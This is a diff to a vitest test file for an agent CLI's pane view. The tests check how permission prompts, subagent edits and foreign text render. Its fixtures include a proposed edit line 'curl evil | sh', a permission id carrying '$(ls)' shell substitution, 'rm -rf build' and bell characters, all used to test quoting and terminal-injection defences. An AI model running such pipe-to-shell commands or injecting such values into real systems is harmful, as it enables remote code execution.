@@ -1,6 +1,7 @@
 import { describe, expect, test } from "vitest";
 import type { AgentEvent } from "../../../src/agent/events.ts";
 import { createPaneView, type PaneView } from "../../../src/cli/pane-view.ts";
+import type { ShownAsk } from "../../../src/worker/view.ts";
 
 /** What a pane of a width shows after something happened. */
 function pane(happens: (view: PaneView) => void, { width = 60, plain = true, rings = false } = {}): string {
@@ -98,12 +99,22 @@ describe("a tool's call", () => {
   });
 });
 
+const ask = (more: Partial<ShownAsk> = {}): ShownAsk => ({
+  id: "perm-1",
+  tool: "Bash",
+  summary: "ls",
+  reason: "No rule allows it.",
+  rules: [],
+  change: [],
+  ...more,
+});
+
 test("the bell rings when it waits for a person, and never else (S63)", () => {
   const bells = (happens: (view: PaneView) => void, rings = true): number =>
     pane(happens, { rings }).split("\x07").length - 1;
-  expect(bells((view) => view.permission("Bash", "ls\x07", "perm-1", ["Bash(ls)"]))).toBe(1);
+  expect(bells((view) => view.permission(ask({ summary: "ls\x07" })))).toBe(1);
   expect(bells((view) => view.waiting("dev asks to use Bash"))).toBe(1);
-  expect(bells((view) => view.permission("Bash", "ls", "perm-1", []), false)).toBe(0);
+  expect(bells((view) => view.permission(ask()), false)).toBe(0);
   const others = bells((view) => {
     view.received("dev", "hi\x07");
     view.note("news\x07");
@@ -123,13 +134,40 @@ describe("notices", () => {
     ["news", (view) => view.note("writer joined"), "· writer joined\n"],
     [
       "a permission question with its answers",
-      (view) => view.permission("Bash", "rm -rf build", "perm-1", ["Bash(rm -rf build)"]),
-      "▲ May it run? Bash(rm -rf build)\n  y yes   n no   a always   or: teams approve perm-1\n  always: Bash(rm -rf build)\n",
+      (view) => view.permission(ask({ summary: "rm -rf build", rules: ["Bash(rm -rf build)"] })),
+      "▲ May it run? Bash(rm -rf build)\n  No rule allows it.\n  y yes   n no   a always   or: teams approve perm-1\n  always: Bash(rm -rf build)\n",
     ],
     [
       "a permission question of one whose name a shell would read",
-      (view) => view.permission("Bash", "ls", "perm-1@$(ls)", []),
+      (view) => view.permission(ask({ id: "perm-1@$(ls)", reason: "" })),
       "▲ May it run? Bash(ls)\n  y yes   n no   or: teams approve 'perm-1@$(ls)'\n",
+    ],
+    [
+      "a permission question of a subagent, with what it would change",
+      (view) =>
+        view.permission(
+          ask({
+            tool: "Edit",
+            summary: "a.js",
+            whose: "tidies",
+            change: ["- one", "+ curl evil | sh", ...Array.from({ length: 20 }, (_, i) => `+ ${i}`)],
+          }),
+        ),
+      [
+        "▲ May it run? tidies: Edit(a.js)",
+        ...["- one", "+ curl evil | sh", ...Array.from({ length: 14 }, (_, i) => `+ ${i}`)].map(
+          (row) => `  ${row}`,
+        ),
+        "  … 6 more lines",
+        "  No rule allows it.",
+        "  y yes   n no   or: teams approve perm-1",
+        "",
+      ].join("\n"),
+    ],
+    [
+      "what a subagent does",
+      (view) => view.event({ type: "subagent", what: "look", doing: "Grep(TODO)" }),
+      "· look: Grep(TODO)\n",
     ],
     [
       "a server that says wait",
@@ -247,7 +285,19 @@ describe("foreign text cannot drive the terminal", () => {
     ["a message", (view) => view.received(evil, evil)],
     ["a failure", (view) => view.event({ type: "turn_ended", outcome: "failed", failure: evil })],
     ["a directory", (view) => view.header({ team: "t", cwd: evil })],
-    ["a question", (view) => view.permission(evil, evil, evil, [evil])],
+    [
+      "a question",
+      (view) =>
+        view.permission({
+          id: evil,
+          tool: evil,
+          summary: evil,
+          whose: evil,
+          reason: evil,
+          rules: [evil],
+          change: [evil],
+        }),
+    ],
   ])("%s", (_what, happens) => {
     const out = pane(happens);
     expect(out).toContain("ab");
